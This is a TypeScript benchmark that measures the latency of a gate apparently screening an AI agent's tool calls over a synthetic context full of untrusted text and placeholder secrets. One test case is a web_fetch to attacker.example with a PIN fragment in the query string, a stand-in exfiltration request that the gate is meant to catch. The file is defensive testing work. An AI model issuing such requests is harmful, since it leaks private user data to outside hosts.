// The gate's decision with labels on: decide() over a realistic untrusted, private context (200 context items, 64 KB
// of untrusted text, workspace data, secrets, 500 content URLs). Clock: decide() alone; the flow state is built once.
// Run: node bench/gate.bench.ts (prints one JSON object).
import { decide } from "../src/gate/decide.ts";
import { createFlowTracker } from "../src/gate/flow-tracker.ts";
import { allow } from "../src/core/decision.ts";
import type { GateRequest, ToolFacts } from "../src/gate/types.ts";

const history = [];
for (let i = 0; i < 200; i++) {
  const kind = i % 4;
  const source = kind === 0 ? "owner" : kind === 1 ? `external:https://site${i}.example/page` : kind === 2 ? `tool:read:notes-${i}.txt` : "model";
  const links = Array.from({ length: 5 }, (_, j) => `https://site${i}.example/p/${j}`).join(" ");
  history.push({ content: `${"lorem ipsum dolor sit amet ".repeat(12)} ${links} pin ${1000 + i} token tok-${i}-abcdef`, source, at: i });
}
const tracker = createFlowTracker({
  history,
  userText: "summarize https://news.example/today and message bob-7",
  userSource: "owner",
  label: (text) => (text.includes("tok-5-") ? [{ label: "token", value: "tok-5-abcdef" }] : []),
  baseSecrets: [{ label: "gateway token", value: "gw_0123456789abcdef0123456789abcdef" }],
  clock: () => 1_000,
});
const flow = tracker.state();
const base = allow("low", { id: "url.public", message: "public" });
const facts: ToolFacts[] = [
  { tool: "web_fetch", url: "https://site1.example/p/3", host: "site1.example", base },
  { tool: "web_fetch", url: "https://attacker.example/c?d=pin-1041-chunk", host: "attacker.example", base },
  { tool: "message", to: "bob-7", channel: "telegram", text: "Here is the summary of today's news, in three lines.", toRequester: false, toOwner: false, ownerIds: ["owner-1"], knownRecipient: true, channelAvailable: true },
  { tool: "write", path: "summaries/today.md", base, secretPath: false, content: "A summary.", document: true, exists: false },
];
const request = (f: ToolFacts): GateRequest => ({ principal: { kind: "owner", id: "telegram:1", channel: "telegram" }, ownerSession: true, grants: "all", flow, facts: f });
for (let i = 0; i < 200; i++) for (const f of facts) decide(request(f));
const times: number[] = [];
const runs = 2000;
for (let i = 0; i < runs; i++) {
  const f = facts[i % facts.length] as ToolFacts;
  const start = performance.now();
  decide(request(f));
  times.push(performance.now() - start);
}
times.sort((a, b) => a - b);
const at = (q: number) => Math.round((times[Math.min(times.length - 1, Math.floor(q * times.length))] ?? 0) * 1000) / 1000;
process.stdout.write(`${JSON.stringify({ contextItems: history.length, contentUrls: flow.contentUrls.length, untrustedTexts: flow.untrustedTexts.length, decisions: runs, p50Ms: at(0.5), p99Ms: at(0.99) })}\n`);
